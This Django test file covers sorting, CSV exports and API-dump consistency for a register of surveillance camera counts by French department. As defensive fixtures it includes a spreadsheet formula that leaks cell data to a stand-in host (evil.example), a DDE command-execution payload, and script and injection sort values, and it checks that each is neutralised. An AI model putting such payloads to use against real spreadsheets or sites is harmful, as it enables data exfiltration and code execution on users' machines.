"""The departments' table sorted, and the open data made to say what the API says, attacked
(session 59a): a sort value crafted or given twice, a department of no inhabitant, a
count not yet accepted, a name that a spreadsheet would run as a formula; the
deployments' CSV and the dump beside the API; and how many times the export reads each
source's address."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.core.management import call_command

from contrechamp.api import serializers
from contrechamp.places.models import Commune, Department
from contrechamp.registry.models import CameraCount, Citation, Deployment
from contrechamp.registry.services import camera_count_create

pytestmark = pytest.mark.django_db

CITATION = [{"source": {"title": "Rapport", "url": "https://example.org/r"}, "quote": ""}]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")'
CALC = "+cmd|' /C calc'!A0"


def _count(code: str, n: int, date: str = "2023") -> CameraCount:
    return camera_count_create(
        commune_code=code, count=n, date=date, citations=CITATION, author=None
    )


@pytest.fixture
def counted():
    """Counts in a few departments, one of them of no inhabitant and named like a
    formula, and a count waiting for review in the Creuse (it counts for nothing)."""
    empty = Department.objects.create(code="ZZ", name=FORMULA)
    Commune.objects.create(
        code="ZZ001", name="Village détruit", department=empty, population=0, area_km2=10.0
    )
    _count("ZZ001", 5)  # 0.5 per km², no figure per inhabitant
    _count("04088", 12)  # Forcalquier
    forcalquier = Commune.objects.get(code="04088")
    region = forcalquier.department.region
    region.name = CALC
    region.save()
    CameraCount.all_objects.create(
        commune=Commune.objects.get(code="23096"), count=999, date="2024", state="pending"
    )
    return empty


def _order(html: str) -> list[str]:
    body = html[html.index("<tbody>") :]
    return re.findall(r'<th scope="row"><a href="/departements/([^/]+)/">', body)


def _csv(client, query: str = "") -> list[dict[str, str]]:
    response = client.get("/exports/departements.csv" + query)
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def _page(client, query: str = "", language: str = "en") -> str:
    response = client.get("/departements/" + query, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    return response.content.decode()


def _no_figure(client) -> list[str]:
    return [r["department_code"] for r in _csv(client) if r["cameras"] == ""]


@pytest.mark.parametrize("direction", ["", "-"])
@pytest.mark.parametrize("key", ["cameras", "pour-1000", "par-km2", "couverture"])
def test_a_department_without_the_figure_comes_last_whichever_the_way(
    client, counted, key, direction
):
    html = _page(client, f"?tri={direction}{key}")
    order = _order(html)
    assert len(order) == Department.objects.count()
    unknown = _no_figure(client)
    # No count accepted in the Creuse: its pending one is not a figure.
    assert "23" in unknown
    # A department of no inhabitant has no figure per inhabitant, nor a share of them.
    without = unknown + (["ZZ"] if key in ("pour-1000", "couverture") else [])
    codes = [d.code for d in Department.objects.order_by("code")]
    tail = [c for c in codes if c in without]
    assert order[-len(tail) :] == tail
    head = order[: -len(tail)]
    assert set(head) == {"04", "06", "75", "ZZ"} - set(without)
    assert head[0] != head[-1] or len(head) == 1


def test_the_figures_sort_largest_first_then_back(client, counted):
    html = _page(client, "?tri=-cameras")
    assert _order(html)[:4] == ["06", "75", "04", "ZZ"] or _order(html)[:4] == [
        "75",
        "06",
        "04",
        "ZZ",
    ]
    assert _order(_page(client, "?tri=cameras"))[:2] == ["ZZ", "04"]
    # Per km²: the village of no inhabitant has a figure there.
    assert "ZZ" in _order(_page(client, "?tri=par-km2"))[:4]


def test_the_sorted_column_says_so_to_a_screen_reader_and_links_the_other_way(client, counted):
    html = _page(client, "?tri=-pour-1000")
    sorted_titles = re.findall(r'<th scope="col"[^>]*aria-sort="(\w+)"[^>]*>(.*?)</th>', html)
    assert len(sorted_titles) == 1
    sort, title = sorted_titles[0]
    assert sort == "descending" and "Per 1,000 inhabitants" in title
    # Said in words too: on a phone the column is out of sight.
    assert "Sorted by cameras per 1,000 inhabitants, descending." in html
    french = _page(client, "?tri=-pour-1000", language="fr")
    assert "Trié par caméras pour 1\u00a0000 habitants, décroissant." in french
    # Its link turns the order round; the others sort their own column.
    assert 'href="/departements/?tri=pour-1000"' in title
    assert 'href="/departements/?tri=-cameras"' in html
    assert 'href="/departements/?tri=nom"' in html
    # The default order is by code, said on the department's column.
    plain = _page(client)
    assert re.findall(r'aria-sort="(\w+)"', plain) == ["ascending"]
    assert "Sorted by code, ascending." in plain
    assert _order(plain) == [d.code for d in Department.objects.order_by("code")]


def test_the_csv_link_keeps_the_order_and_the_file_follows_it(client, counted):
    html = _page(client, "?tri=-cameras")
    assert 'href="/exports/departements.csv?tri=-cameras"' in html
    rows = _csv(client, "?tri=-cameras")
    assert [r["department_code"] for r in rows] == _order(html)
    # Unsorted, the link is the plain file's.
    assert 'href="/exports/departements.csv"' in _page(client)


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "--cameras",
        "-",
        "CAMERAS",
        "camera",
        "pour 1000",
        "nom;drop",
        "x" * 5000,
        "population",
    ],
)
def test_a_crafted_order_is_said_on_the_page_and_refused_by_the_file(client, counted, value):
    response = client.get("/departements/", {"tri": value}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "is in its usual order, by code" in html
    assert _order(html) == [d.code for d in Department.objects.order_by("code")]
    refused = client.get("/exports/departements.csv", {"tri": value}, HTTP_ACCEPT_LANGUAGE="en")
    assert refused.status_code == 400
    error = refused.json()["error"]
    assert error["field"] == "tri"
    assert "Accepted: nom, code, cameras, pour-1000, par-km2, couverture" in error["message"]
    assert len(error["message"]) < 300


def test_an_order_given_twice_is_said_in_french_too(client, counted):
    html = _page(client, "?tri=nom&tri=-cameras", language="fr")
    assert "L’ordre («\u00a0tri\u00a0») est donné plusieurs fois." in html
    assert _order(html) == [d.code for d in Department.objects.order_by("code")]
    assert client.get("/exports/departements.csv?tri=nom&tri=-cameras").status_code == 400


def test_sorted_cells_never_become_formulas(client, counted):
    for query in ("?tri=nom", "?tri=-nom", "?tri=par-km2"):
        rows = {r["department_code"]: r for r in _csv(client, query)}
        assert rows["ZZ"]["department"] == "'" + FORMULA
        assert rows["04"]["region"] == "'" + CALC
        # No inhabitant: empty cells, not a division by zero, and not 0.
        assert rows["ZZ"]["cameras_per_1000_inhabitants"] == ""
        assert rows["ZZ"]["population_counted_share"] == ""
        assert rows["ZZ"]["cameras_per_km2"] == "0.5"
        assert rows["23"]["cameras"] == ""


def test_sorting_by_name_reads_names_as_people_do(client, counted):
    Department.objects.filter(code="01").update(name="Ébène")
    order = _order(_page(client, "?tri=nom"))
    names = dict(Department.objects.values_list("code", "name"))
    # "Ébène" among the E, not after the Z.
    assert names[order[order.index("01") - 1]][0] in "DE"
    assert _order(_page(client, "?tri=-nom")) == order[::-1]


# --- the open data says what the API says ---------------------------------------------


def _api_deployments(client) -> dict[int, dict]:
    return {d["id"]: d for d in client.get("/api/v1/deployments?limit=500").json()["results"]}


def test_the_deployments_csv_gives_the_latest_source_date_the_api_gives(client):
    api = _api_deployments(client)
    response = client.get("/exports/dispositifs.csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(api) > 0
    assert {int(r["id"]): r["latest_source_on"] for r in rows} == {
        i: d["latest_source_on"] or "" for i, d in api.items()
    }
    assert any(r["latest_source_on"] for r in rows)


def test_the_dump_gives_the_fields_of_the_api(client, tmp_path):
    path = tmp_path / "dump.json"
    call_command("dump", output=str(path))
    data = json.loads(path.read_text())
    api = _api_deployments(client)
    assert {d["id"]: d["latest_source_on"] for d in data["deployments"]} == {
        i: d["latest_source_on"] for i, d in api.items()
    }
    counts = {c["id"]: c for c in client.get("/api/v1/camera-counts?limit=500").json()["results"]}
    assert counts
    for c in data["camera_counts"]:
        assert (c["per_km2"], c["per_1000"]) == (
            counts[c["id"]]["per_km2"],
            counts[c["id"]]["per_1000"],
        )


def test_the_export_reads_each_source_address_once(client, monkeypatch):
    calls: list[str] = []
    original = serializers.site_document

    def counting(url: str):
        calls.append(url)
        return original(url)

    monkeypatch.setattr(serializers, "site_document", counting)
    response = client.get("/exports/dispositifs.csv")
    b"".join(response.streaming_content)
    cited = Citation.objects.filter(deployment__in=Deployment.objects.published()).exclude(
        source__url=""
    )
    assert len(calls) == cited.count() > 0
